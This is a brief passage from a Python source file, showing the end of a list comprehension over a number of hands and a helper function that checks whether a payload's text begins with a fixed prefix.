        for place in range(hands)
    ]


def _swallows(payload: Payload) -> bool:
    return payload.text.lower().lstrip().startswith(_SWALLOWS)
